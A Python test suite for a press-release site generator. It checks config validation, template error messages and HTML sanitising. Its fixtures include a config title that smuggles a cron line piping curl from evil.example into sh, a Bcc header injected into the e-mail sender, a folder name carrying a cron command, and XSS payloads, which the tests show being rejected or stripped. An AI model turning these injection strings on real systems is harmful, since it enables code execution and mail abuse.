"""Hardening of check/build/email/timeline: config values, template errors, one validation for every command."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
import sitekit
from sitekit import CONFIG, SIMPLE, write_legal_pages, write_photo, write_release


def write_site(root: Path, releases: dict[str, str] | None = None, config: str = sitekit.CONFIG) -> Path:
    """A test site with its legal pages, so that `check` reports only what a test is about."""
    return write_legal_pages(sitekit.write_site(root, releases, config))

from pressekit.cli import main
from pressekit.releases import load_site
from pressekit.timeline import cron_lines, plan_timeline, systemd_timer

NOW = "2025-06-01T12:00:00+02:00"
RID = "2025-03-04-radweg"
SCHEDULED = """\
---
title: Kreis stellt Haushalt vor
date: 2025-07-01
embargo: 2025-07-01T10:00:00+02:00
---
Der Haushalt steht.
"""
EVIL_TITLE = 'title = "Presse\\n* * * * * curl https://evil.example/x | sh\\n#"'
TITLE = 'title = "Pressemitteilungen des Landkreises Beispielheim"'


def run(root: Path, *args: str) -> tuple[int, str, str]:
    """Run a pressekit command on the site at root; a traceback fails the test."""
    result = CliRunner().invoke(main, [*args, "--site", str(root)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr + result.stdout
    return result.exit_code, result.stdout, result.stderr


def tree(folder: Path) -> dict[str, str]:
    """relpath -> sha256 of every file under folder (the cache excluded)."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and ".pressekit" not in p.parts}


# --- 1. config values cannot start a new line ---------------------------------------------------------

LINE_BREAK = "pressekit.toml:{line}: [{table}] {key}: contains a line break; a single line is expected"
CONFIG_VALUE_CASES = {
    "newline in title": (CONFIG.replace(TITLE, EVIL_TITLE), [LINE_BREAK.format(line=2, table="site", key="title")]),
    "CR in organisation": (CONFIG.replace('organisation = "Landkreis', 'organisation = "Land\\rkreis'),
                           [LINE_BREAK.format(line=3, table="site", key="organisation")]),
    "U+2028 in title": (CONFIG.replace(TITLE, 'title = "Presse\\u2028Mitteilungen"'),
                        [LINE_BREAK.format(line=2, table="site", key="title")]),
    "U+2029 in timezone": (CONFIG.replace('"Europe/Berlin"', '"Europe/Berlin\\u2029"'),
                           [LINE_BREAK.format(line=6, table="site", key="timezone")]),
    "U+0085 in contact name": (CONFIG.replace('"Jana Muster"', '"Jana\\u0085Muster"'),
                               [LINE_BREAK.format(line=20, table="contacts.pressestelle", key="name")]),
    "newline in boilerplate heading": (CONFIG.replace('heading = "Der', 'heading = "\\nDer'),
                                       [LINE_BREAK.format(line=15, table="boilerplate", key="heading")]),
    "newline in e-mail sender": (CONFIG.replace('from = "Pressestelle', 'from = "Bcc: x@evil.example\\nPressestelle'),
                                 [LINE_BREAK.format(line=46, table="email", key="from")]),
    "tab in title": (CONFIG.replace(TITLE, 'title = "Presse\\tMitteilungen"'),
                     ["pressekit.toml:2: [site] title: contains the control character U+0009\n"
                      "  hint: remove invisible characters pasted from another program"]),
    "U+2028 in a paragraph text": (CONFIG.replace('reuse = "Sämtliche', 'reuse = "\\u2028Sämtliche'),
                                   ["pressekit.toml:11: [texts] reuse: contains a line break other than a plain "
                                    "new line\n  hint: separate paragraphs with an empty line"]),
}


@pytest.mark.parametrize("config, expected", CONFIG_VALUE_CASES.values(), ids=CONFIG_VALUE_CASES.keys())
@pytest.mark.parametrize("command", [["check"], ["build", "--now", NOW], ["timeline", "--cron"],
                                     ["timeline", "--systemd"], ["email", RID]])
def test_a_line_break_in_a_config_value_is_an_error_for_every_command(
        tmp_path: Path, config: str, expected: list[str], command: list[str]) -> None:
    root = write_site(tmp_path / "site", {RID: SIMPLE, "2025-07-01-haushalt": SCHEDULED}, config=config)
    before = tree(root)
    code, out, err = run(root, *command)
    assert code == 1
    assert "curl" not in out
    problems = err if command[0] != "check" else out.replace(": error: ", ": ")
    for message in expected:
        assert message in problems
    assert tree(root) == before


def test_paragraph_texts_may_hold_line_breaks(tmp_path: Path) -> None:
    config = CONFIG.replace('reuse = "Sämtliche', 'reuse = """Erster Absatz.\n\nSämtliche').replace(
        'Belegexemplare sind willkommen."', 'Belegexemplare sind willkommen."""')
    root = write_site(tmp_path / "site", {RID: SIMPLE}, config=config)
    code, out, _ = run(root, "email", RID)
    assert code == 0
    assert "\nErster Absatz.\nSämtliche Texte" in out


@pytest.mark.parametrize("flag", ["--cron", "--systemd"])
def test_timeline_output_has_no_line_a_value_started(tmp_path: Path, flag: str) -> None:
    root = write_site(tmp_path / "site", {"2025-07-01-haushalt": SCHEDULED})
    config, releases = load_site(root)
    # a config that did not pass validation (built in code) still cannot add a line
    evil = replace(config, site=replace(config.site, title="Presse\n* * * * * curl x | sh\u2028#\r"))
    plan = plan_timeline(releases, datetime.fromisoformat(NOW))
    schedule = cron_lines if flag == "--cron" else systemd_timer
    text = schedule(plan, evil, root.resolve())
    assert "Presse\\u000a* * * * * curl x | sh\\u2028#\\u000d" in text
    assert len(text.splitlines()) == len(schedule(plan, config, root.resolve()).splitlines())


@pytest.mark.parametrize("flag", ["--cron", "--systemd"])
def test_timeline_refuses_a_site_folder_whose_name_breaks_lines(tmp_path: Path, flag: str) -> None:
    root = write_site(tmp_path / "site\n* * * * * touch pwned", {"2025-07-01-haushalt": SCHEDULED})
    code, out, err = run(root, "timeline", flag, "--now", NOW)
    assert code == 1
    assert out == ""
    assert err == (f"Error: the site folder {tmp_path.resolve()}/site\\u000a* * * * * touch pwned has a line break "
                   "or control character in its path; a schedule cannot name it\n  hint: rename the folder\n")


# --- 2. template errors: path:line, no traceback, from build, check and email --------------------------

RELEASE_OVERRIDE = '{% extends "base.html" %}\n{% block content %}\n<h1>{{ release.title }}</h1>\n{}\n{% endblock %}\n'
SHOWN = f"releases/{RID}/index.md"
TEMPLATE_CASES = {
    "undefined variable": ("release.html", RELEASE_OVERRIDE.replace("{}", "{{ titel }}"),
                           f"templates/release.html:4: 'titel' is undefined (while rendering {SHOWN})"),
    "syntax error": ("email.txt", "Meldung\n{% if release.title }\n", "templates/email.txt:2: unexpected '}'"),
    "filter that does not exist": ("email.html", "<p>{{ release.title | gross }}</p>\n",
                                   "templates/email.html:1: No filter named 'gross'."),
    "exception raised in an override": ("index.html", "<p>\n{{ 1/0 }}</p>\n",
                                        "templates/index.html:2: ZeroDivisionError: division by zero "
                                        "(while rendering index.html)"),
    "missing include": ("release.html", RELEASE_OVERRIDE.replace("{}", '{% include "kasten.html" %}'),
                        f"templates/release.html:4: the template 'kasten.html' does not exist (while rendering {SHOWN})"),
}


def _template_site(tmp_path: Path, name: str, text: str) -> Path:
    root = write_site(tmp_path / "site", {RID: SIMPLE})
    (root / "templates").mkdir()
    (root / "templates" / name).write_text(text, encoding="utf-8")
    return root


@pytest.mark.parametrize("name, text, message", TEMPLATE_CASES.values(), ids=TEMPLATE_CASES.keys())
@pytest.mark.parametrize("command", [["build", "--now", NOW], ["email", RID], ["email", RID, "--eml"]])
def test_a_template_error_is_reported_with_its_line(tmp_path: Path, name: str, text: str, message: str,
                                                    command: list[str]) -> None:
    root = _template_site(tmp_path, name, text)
    before = tree(root)
    assert run(root, *command) == (1, "", f"{message}\n1 problem found; nothing was written.\n")
    assert tree(root) == before


@pytest.mark.parametrize("name, text, message", TEMPLATE_CASES.values(), ids=TEMPLATE_CASES.keys())
def test_a_template_broken_after_a_good_build_fails_the_next_build(tmp_path: Path, name: str, text: str,
                                                                   message: str) -> None:
    # the build keeps the templates' clean check between runs: a changed template must be checked again
    root = write_site(tmp_path / "site", {RID: SIMPLE})
    assert run(root, "build", "--now", NOW)[0] == 0
    built = tree(root / "output")
    (root / "templates").mkdir()
    (root / "templates" / name).write_text(text, encoding="utf-8")
    assert run(root, "build", "--now", NOW) == (1, "", f"{message}\n1 problem found; nothing was written.\n")
    assert tree(root / "output") == built
    (root / "templates" / name).unlink()
    assert run(root, "build", "--now", NOW)[0] == 0
    assert tree(root / "output") == built


@pytest.mark.parametrize("name, text, message", TEMPLATE_CASES.values(), ids=TEMPLATE_CASES.keys())
def test_check_compiles_and_renders_every_template(tmp_path: Path, name: str, text: str, message: str) -> None:
    root = _template_site(tmp_path, name, text)
    path, line, rest = message.split(":", 2)
    assert run(root, "check", "--now", NOW) == (
        1, f"{path}:{line}: error:{rest}\n\n1 release checked: 1 error, 0 warnings.\n", "")


def test_the_default_theme_passes_check(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", {RID: SIMPLE})
    assert run(root, "check", "--now", NOW) == (0, "1 release checked, no problems found.\n", "")


def test_a_template_error_in_a_render_worker_is_reported_like_any_other(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from pressekit import workers

    monkeypatch.setattr(workers, "SERIAL_LIMIT", 0)  # render in worker processes even for three releases
    releases = {f"2025-03-0{n}-r{n}": SIMPLE.replace("2025-03-04", f"2025-03-0{n}") for n in (1, 2, 3)}
    root = write_site(tmp_path / "site", releases)
    (root / "templates").mkdir()
    # only the oldest release fails: check's sample (the newest) renders, the build's worker does not
    (root / "templates" / "release.html").write_text(RELEASE_OVERRIDE.replace(
        "{}", '{% if release.id == "2025-03-01-r1" %}{{ titel }}{% endif %}'), encoding="utf-8")
    before = tree(root)
    assert run(root, "build", "--now", NOW, "--jobs", "2") == (
        1, "", "templates/release.html:4: 'titel' is undefined (while rendering releases/2025-03-01-r1/index.md)\n"
               "1 problem found; nothing was written.\n")
    assert tree(root) == before


# --- 3./4. check, build and email run the same validation -------------------------------------------------

PHOTO_RELEASE = """\
---
title: Landrätin besucht Feuerwehr
date: 2025-03-05
photos:
  - file: team.jpg
    caption: Die Landrätin mit der Wehr
    credit: Max Beispiel/ Landkreis
    alt: Menschen vor einem Feuerwehrauto
---
Text.
"""
PHOTO_ID = "2025-03-05-feuerwehr"
PHOTO_ERROR = (f"releases/{PHOTO_ID}/index.md:5: photos[0].file: team.jpg is a text file, not a JPEG, PNG, WebP "
               "or TIFF image\n  hint: check that the photo, not another file, is saved under this name")
FRONT_MATTER_ERROR = ("releases/2025-03-06-kaputt/index.md:3: date: '2025-13-06' is not a valid date "
                      "(month must be in 1..12)\n  hint: expected YYYY-MM-DD or YYYY-MM-DDTHH:MM:SS+01:00")
TEMPLATE_ERROR = f"templates/release.html:4: 'titel' is undefined (while rendering releases/{PHOTO_ID}/index.md)"


def _broken_site(tmp_path: Path) -> Path:
    root = write_site(tmp_path / "site", {RID: SIMPLE, PHOTO_ID: PHOTO_RELEASE,
                                          "2025-03-06-kaputt": "---\ntitle: K\ndate: 2025-13-06\n---\nT\n"})
    (root / "releases" / PHOTO_ID / "team.jpg").write_text("kein Bild\n", encoding="utf-8")
    (root / "templates").mkdir()
    (root / "templates" / "release.html").write_text(RELEASE_OVERRIDE.replace("{}", "{{ titel }}"), encoding="utf-8")
    return root


def test_build_reports_every_kind_of_problem_in_one_run(tmp_path: Path) -> None:
    root = _broken_site(tmp_path)
    before = tree(root)
    assert run(root, "build", "--now", NOW) == (
        1, "", f"{PHOTO_ERROR}\n{FRONT_MATTER_ERROR}\n{TEMPLATE_ERROR}\n3 problems found; nothing was written.\n")
    assert tree(root) == before


def test_check_reports_what_build_reports(tmp_path: Path) -> None:
    root = _broken_site(tmp_path)
    code, out, _ = run(root, "check", "--now", NOW, "--format", "json")
    import json

    assert code == 1
    shown = [f"{p['path']}:{p['line']}: {p['message']}" + (f"\n  hint: {p['hint']}" if p["hint"] else "")
             for p in json.loads(out) if p["severity"] == "error"]
    assert shown == [PHOTO_ERROR, FRONT_MATTER_ERROR, TEMPLATE_ERROR]


def test_a_photo_error_of_a_draft_fails_check_and_build_alike(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", {PHOTO_ID: PHOTO_RELEASE.replace("date:", "draft: true\ndate:")})
    (root / "releases" / PHOTO_ID / "team.jpg").write_text("kein Bild\n", encoding="utf-8")
    shifted = PHOTO_ERROR.replace("index.md:5:", "index.md:6:")
    assert run(root, "build", "--now", NOW) == (1, "", f"{shifted}\n1 problem found; nothing was written.\n")
    assert run(root, "check", "--now", NOW)[0] == 1


@pytest.mark.parametrize("flags", [[], ["--html"], ["--eml"]])
def test_email_fails_on_a_broken_photo_as_build_does(tmp_path: Path, flags: list[str]) -> None:
    root = write_site(tmp_path / "site", {PHOTO_ID: PHOTO_RELEASE})
    (root / "releases" / PHOTO_ID / "team.jpg").write_text("kein Bild\n", encoding="utf-8")
    before = tree(root)
    expected = (1, "", f"{PHOTO_ERROR}\n1 problem found; nothing was written.\n")
    assert run(root, "email", PHOTO_ID, *flags) == expected
    assert run(root, "build", "--now", NOW) == expected
    assert tree(root) == before


def test_email_prints_a_release_with_good_photos(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", {PHOTO_ID: PHOTO_RELEASE})
    write_photo(root / "releases" / PHOTO_ID / "team.jpg")
    code, out, _ = run(root, "email", PHOTO_ID)
    assert code == 0
    assert "Die Landrätin mit der Wehr Foto: Max Beispiel/ Landkreis" in out


# --- silent changes: removed raw HTML and text feed readers garble are warned of -----------------------

RAW_HTML = """\
---
title: Kreis eröffnet „Radweg“
date: 2025-03-04
---
Der Radweg ist fertig.

<script>alert(1)</script>

Ein Bild <img src="karte.png" alt="Karte" onerror="alert(1)"> und <iframe src="https://video.example/"></iframe>.

[Klick](javascript:alert(1)) und `<script>` als Code.
"""
ALLOWED = ("a, abbr, b, blockquote, br, caption, code, dd, del, div, dl, dt, em, figcaption, figure, h1, h2, h3, h4, "
           "h5, h6, hr, i, img, ins, li, mark, ol, p, pre, s, small, span, strong, sub, sup, table, tbody, td, tfoot, "
           "th, thead, tr, u, ul")


def test_check_warns_of_raw_html_the_build_removes(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", {RID: RAW_HTML})
    removed = "is removed; only text formatting, links, images, lists, tables and headings are allowed"
    assert run(root, "check", "--now", NOW) == (0, (
        f"{SHOWN}:7: warning: raw HTML <script> {removed}\n  hint: allowed tags: {ALLOWED}\n"
        f"{SHOWN}:9: warning: raw HTML attribute onerror of <img> is removed; only alt, height, id, lang, src, title, "
        "width are allowed there\n"
        f"{SHOWN}:9: warning: raw HTML <iframe> {removed}\n  hint: allowed tags: {ALLOWED}\n"
        f"{SHOWN}:11: warning: the link 'javascript:alert(1)' is removed; only http, https, mailto, tel links are "
        "allowed\n  hint: link to a web page or write the address as text\n"
        "\n1 release checked: 0 errors, 4 warnings.\n"), "")
    assert run(root, "check", "--now", NOW, "--strict")[0] == 1
    code, out, _ = run(root, "build", "--now", NOW)
    assert code == 0
    page = (root / "output" / RID / "index.html").read_text("utf-8")
    assert "alert(" not in page and "<iframe" not in page and "<p><a>Klick</a> und <code>&lt;script&gt;</code>" in page


FEED_TEXTS = {  # title -> the warning check gives (None: feed readers show it as written)
    "Spaß« am Ende": ("'߫' for 'ß«'", "write German quotes „…“ instead of »…« or «…»"),
    "Ü\u00a0Nachbar": ("'ܠ' for 'Ü + no-break space'", "write a normal space after 'Ü' instead of the no-break space"),
    "Spaß» am Ende": ("'߻' for 'ß»'", "write German quotes „…“ instead of »…« or «…»"),
    "Maß² gilt": ("'߲' for 'ß²'", "put a space between 'ß' and '²'"),
    "„Spaß« am Ende“": None,        # a character beyond Latin-1 keeps the whole text as it is
    "Müller« am Ende": None,        # 'ü«' is no UTF-8 sequence
    "ä\u00a0Nachbar": None,         # nor is "ä" + no-break space
}


@pytest.mark.parametrize("title, warning", FEED_TEXTS.items(), ids=range(len(FEED_TEXTS)))
def test_check_warns_of_exactly_the_text_feedparser_garbles(tmp_path: Path, title: str,
                                                            warning: tuple[str, str] | None) -> None:
    import feedparser

    root = write_site(tmp_path / "site", {RID: f'---\ntitle: "{title}"\ndate: 2025-03-04\n---\nDer „Radweg“.\n'})
    code, out, _ = run(root, "check", "--now", NOW)
    if warning is None:
        assert (code, out) == (0, "1 release checked, no problems found.\n")
    else:
        assert (code, out) == (0, (
            f"{SHOWN}:2: warning: title: feed readers built on feedparser show {warning[0]} (the text has no "
            f"character beyond Latin-1 and is taken for mis-decoded UTF-8)\n  hint: {warning[1]}\n"
            "\n1 release checked: 0 errors, 1 warning.\n"))
    assert run(root, "build", "--now", NOW)[0] == 0
    for feed in ("feed.xml", "atom.xml"):
        [entry] = feedparser.parse((root / "output" / feed).read_bytes()).entries
        assert (entry.title != title) == (warning is not None)


@pytest.mark.parametrize("field, text, line", [("summary", 'summary: "Spaß« kurz"\n', 3),
                                               ("body", "", 5)])
def test_summary_and_body_feedparser_garbles_are_warned_at_their_line(tmp_path: Path, field: str, text: str,
                                                                     line: int) -> None:
    import feedparser

    root = write_site(tmp_path / "site", {RID: f"---\ntitle: Radweg\n{text}date: 2025-03-04\n---\nKurz ß«\n"})
    _, out, _ = run(root, "check", "--now", NOW)
    assert (f"{SHOWN}:{line}: warning: {field}: feed readers built on feedparser show '߫' for 'ß«' (the text has no "
            "character beyond Latin-1 and is taken for mis-decoded UTF-8)\n") in out
    assert run(root, "build", "--now", NOW)[0] == 0
    [entry] = feedparser.parse((root / "output" / "atom.xml").read_bytes()).entries
    assert "߫" in (entry.summary if field == "summary" else entry.content[0].value)
